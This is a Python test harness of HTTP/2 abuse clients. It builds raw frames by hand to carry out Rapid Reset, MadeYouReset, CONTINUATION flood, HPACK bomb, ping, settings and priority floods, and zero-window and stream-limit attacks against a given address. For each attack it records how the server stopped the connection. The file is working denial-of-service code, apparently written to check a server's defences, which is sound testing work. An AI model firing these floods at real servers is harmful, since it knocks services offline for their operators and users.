"""Clients of HTTP/2 with prior knowledge that abuse it, frame by frame. Each tells how much it sent and how it was stopped."""

import socket
import struct
import time

import ends
import h2.errors
from client import Frames, frame

from told import run, split, tell

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


class Abuser:
    """A connection whose frames are made by hand, with the library's encoder of heads."""

    def __init__(self, address):
        self.address = address
        self.end = ends.End(socket.create_connection(split(address), timeout=10), "client")
        self.end.begin()
        self.end.until(lambda: self.end.settings is not None)
        self.frames = Frames(self.end)
        self.stream, self.sent = 1, 0

    def head(self, path="/", *more):
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", self.address), (":path", path), *more]
        return self.end.h2.encoder.encode(fields)

    def next(self):
        stream, self.stream = self.stream, self.stream + 2
        return stream

    def send(self, count, *frames):
        self.end.raw(b"".join(frames))
        self.sent += count
        self.frames.read()
        return self.over() is None

    def over(self):
        return self.end.goaway or self.end.closed

    def tell(self, patience=1.0, **more):
        self.frames.until(lambda: self.over() is not None, patience)
        tell(sent=self.sent, goaway=self.end.goaway, closed=self.end.closed, resets=len(self.end.resets), **more)


def repeat(address, make, count=20_000, batch=100):
    """Sends what `make` makes, many times, until the other end has had enough."""
    abuser = Abuser(address)
    while abuser.sent < count and abuser.send(batch, *[make(abuser) for _ in range(batch)]):
        pass
    abuser.tell()


def spoil(address, kind, word):
    """Opens streams, and sends behind each head a frame of `kind` with one `word` that is the end of it."""

    def make(abuser):
        stream = abuser.next()
        head = frame(HEADERS, END_STREAM | END_HEADERS, stream, abuser.head())
        return head + frame(kind, 0, stream, struct.pack(">I", word))

    repeat(address, make)


def rapid_reset(address):
    """CVE-2023-44487: streams opened and reset at once."""
    spoil(address, RST_STREAM, h2.errors.ErrorCodes.CANCEL)


def made_you_reset(address):
    """CVE-2025-8671: streams opened, and then made wrong, so that the other end resets them."""
    spoil(address, WINDOW_UPDATE, 0)


def made_you_reset_by_window(address):
    """The same by a window that overflows."""
    spoil(address, WINDOW_UPDATE, 0x7FFFFFFF)


def continuation_flood(address):
    """CVE-2024-27316: a head without end."""
    abuser = Abuser(address)
    abuser.end.raw(frame(HEADERS, 0, abuser.next(), abuser.head()))
    # A literal field that is never indexed: name "x", value of 1,000 bytes.
    field = b"\x10\x01x\x7f" + bytes([1000 - 127 & 0x7F | 0x80, (1000 - 127) >> 7]) + b"y" * 1000
    while abuser.sent < 20_000 and abuser.send(20, *[frame(CONTINUATION, 0, 1, field)] * 20):
        pass
    abuser.tell()


def empty_continuations(address):
    """Frames of a head that bring nothing."""
    abuser = Abuser(address)
    abuser.end.raw(frame(HEADERS, 0, abuser.next(), abuser.head()))
    while abuser.sent < 50_000 and abuser.send(100, *[frame(CONTINUATION, 0, 1)] * 100):
        pass
    abuser.tell()


def literal(name, value):
    """A field that goes into nobody's table (RFC 7541, section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def hpack_bomb(address):
    """One large field put into the table once, and then named thousands of times in each head (CVE-2016-6581)."""
    abuser = Abuser(address)
    # GET, http and / are in the table that everybody has (RFC 7541, appendix A).
    head = bytes([0x82, 0x86, 0x84]) + literal(b":authority", address.encode())
    # Literal with indexing, name "x", value of 3,900 bytes: from then on the newest of the table, number 62.
    large = b"\x40\x01x\x7f" + bytes([3900 - 127 & 0x7F | 0x80, (3900 - 127) >> 7]) + b"y" * 3900
    block = head + large + bytes([0x80 | 62]) * 12_000
    while abuser.sent < 200:
        if not abuser.send(1, frame(HEADERS, END_STREAM | END_HEADERS, abuser.next(), block)):
            break
        block = head + bytes([0x80 | 62]) * 16_000
    abuser.tell()


def empty_data(address):
    """Frames of data without data, on a request that never ends."""
    abuser = Abuser(address)
    stream = abuser.next()
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", address), (":path", "/put/x")]
    abuser.end.raw(frame(HEADERS, END_HEADERS, stream, abuser.end.h2.encoder.encode(fields)))
    while abuser.sent < 50_000 and abuser.send(100, *[frame(DATA, 0, stream)] * 100):
        pass
    abuser.tell()


def pings(address):
    repeat(address, lambda abuser: frame(PING, 0, 0, bytes(8)), 50_000)


def settings(address):
    repeat(address, lambda abuser: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), 50_000)


def priorities(address):
    repeat(address, lambda abuser: frame(PRIORITY, 0, abuser.next(), struct.pack(">IB", 0, 16)), 50_000)


def unread(address):
    """Asks for large answers on as many streams as it may, with a window as large as can be, and reads nothing."""
    abuser = Abuser(address)
    abuser.end.raw(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)))
    abuser.end.raw(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)))
    most = min(100, (abuser.end.settings or {}).get("max_concurrent_streams", 100))
    for _ in range(most):
        abuser.end.raw(frame(HEADERS, END_STREAM | END_HEADERS, abuser.next(), abuser.head("/files/large")))
        abuser.sent += 1
    time.sleep(3)
    tell(sent=abuser.sent, goaway=None, closed=None, resets=0)


def no_window(address):
    """The same with no window at all: the answers have nowhere to go."""
    abuser = Abuser(address)
    abuser.end.raw(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    most = min(100, (abuser.end.settings or {}).get("max_concurrent_streams", 100))
    for _ in range(most):
        abuser.end.raw(frame(HEADERS, END_STREAM | END_HEADERS, abuser.next(), abuser.head("/files/large")))
        abuser.sent += 1
    time.sleep(3)
    tell(sent=abuser.sent, goaway=None, closed=None, resets=0)


def too_many(address):
    """More streams at once than are allowed."""
    abuser = Abuser(address)
    most = (abuser.end.settings or {}).get("max_concurrent_streams", 1000)
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", address), (":path", "/put/x")]
    block = lambda: abuser.end.h2.encoder.encode(fields)
    abuser.send(most + 50, *[frame(HEADERS, END_HEADERS, abuser.next(), block()) for _ in range(most + 50)])
    abuser.frames.until(lambda: len(abuser.end.resets) >= 50, 3)
    abuser.tell(most=most)


SCENARIOS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "made-you-reset-by-window": made_you_reset_by_window,
    "continuation-flood": continuation_flood,
    "empty-continuations": empty_continuations,
    "hpack-bomb": hpack_bomb,
    "empty-data": empty_data,
    "pings": pings,
    "settings": settings,
    "priorities": priorities,
    "unread": unread,
    "no-window": no_window,
    "too-many": too_many,
}

if __name__ == "__main__":
    run(SCENARIOS, __doc__)
